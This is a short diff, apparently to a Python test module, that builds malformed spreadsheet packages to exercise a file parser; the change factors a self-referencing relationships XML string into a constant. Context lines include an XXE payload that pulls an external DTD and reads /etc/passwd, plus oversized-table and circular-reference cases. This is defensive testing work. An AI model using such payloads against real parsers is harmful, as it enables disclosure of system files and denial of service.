@@ -40,6 +40,11 @@ LAUGHS = (
 )
 STRANGER = b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
 REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+CIRCLE = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    f'<Relationship Id="rId1" Type="{REL}/table" Target="sheet7.xml"/>'
+    f'<Relationship Id="rId2" Type="{REL}/worksheet" Target="../workbook.xml"/></Relationships>'
+).encode()
 Make = Callable[[dict[str, bytes]], dict[str, bytes] | bytes]
 
 
@@ -132,7 +137,7 @@ FILES: dict[str, tuple[Make, str]] = {
     "a table of a million rows": (lambda m: m | {"xl/tables/table15.xml": re.sub(rb'ref="A3:L\d+"', b'ref="A3:L1048576"', m["xl/tables/table15.xml"])}, ""),
     "parts that lead to themselves": (
         lambda m: m | {
-            "xl/worksheets/_rels/sheet7.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/table" Target="sheet7.xml"/><Relationship Id="rId2" Type="{REL}/worksheet" Target="../workbook.xml"/></Relationships>'.encode(),
+            "xl/worksheets/_rels/sheet7.xml.rels": CIRCLE,
             RELS: m[RELS].replace(b"worksheets/sheet16.xml", b"workbook.xml"),
         }, "",
     ),
